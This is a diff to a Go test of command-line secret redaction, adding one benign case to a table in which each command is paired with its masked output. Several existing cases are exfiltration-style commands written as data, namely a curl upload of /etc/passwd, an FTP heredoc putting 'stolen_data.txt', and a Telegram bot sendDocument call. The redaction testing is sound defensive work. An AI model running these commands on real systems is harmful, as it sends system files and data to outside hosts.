@@ -68,6 +68,7 @@ func TestCommandLine(t *testing.T) {
 		"telegram":             {[]string{"curl", "https://api.telegram.org/bot123456:AAH-x/sendDocument"}, "curl https://api.telegram.org/****/sendDocument"},
 		"form file with type":  {[]string{"curl", "-F", "file=@/etc/passwd;type=text/plain", "h"}, "curl -F file=@/etc/passwd h"},
 		"the ADS FTP script":   {[]string{"sh", "-c", "ftp -inv h << EOF\nuser username password\nput stolen_data.txt\nquit\nEOF"}, "sh -c ftp -inv h << EOF ; user **** **** ; put stolen_data.txt ; quit ; EOF"},
+		"user without name":    {[]string{"sh", "-c", "echo user; put f"}, "sh -c echo user ; put f"},
 		"quoted FTP commands":  {[]string{"sh", "-c", "ftp -n h <<E\nquote USER bob\nquote PASS pw\nput x\nE"}, "sh -c ftp -n h <<E ; quote USER **** ; quote PASS **** ; put x ; E"},
 		"continued lines":      {[]string{"sh", "-c", "mysql \\\n  -ppw \\\n  db"}, "sh -c mysql -p**** db"},
 		"python's auth":        {[]string{"python3", "-c", "put('http://h/x', auth=('user', 'pw'))"}, "python3 -c put(http://h/x, auth=**** ****"},
